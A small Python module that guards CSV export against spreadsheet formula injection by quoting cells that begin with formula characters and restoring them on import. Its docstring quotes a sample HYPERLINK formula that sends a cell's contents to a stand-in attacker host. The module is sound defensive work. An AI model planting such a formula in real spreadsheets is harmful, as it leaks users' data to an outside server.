"""Spreadsheet formula injection: CSV cells a spreadsheet would run are neutralised on export, restored on import.

As OWASP recommends ("CSV Injection"), a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
leading single quote, so Excel, WPS and LibreOffice show it as text instead of evaluating
`=HYPERLINK("http://evil.example/?leak="&A3,"点击")`. To keep `export` → `import` exact, a cell that already starts
with quotes before such a character gets one more quote, and import removes exactly one from every cell of that
shape: `=x` ↔ `'=x`, `'=x` ↔ `''=x`; `'abc` is left alone both ways.
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _guarded(text: str) -> bool:
    """Whether `text`, after any leading quotes, starts with a character a spreadsheet evaluates."""
    return text.lstrip("'").startswith(TRIGGERS)


def neutralise(value: object) -> object:
    """A cell value as it is safe to write into a CSV file."""
    if isinstance(value, str) and _guarded(value):
        return "'" + value
    return value


def restore(value: object) -> object:
    """A cell value read from a CSV file that `neutralise` wrote: the value before it was neutralised."""
    if isinstance(value, str) and value.startswith("'") and _guarded(value[1:]):
        return value[1:]
    return value
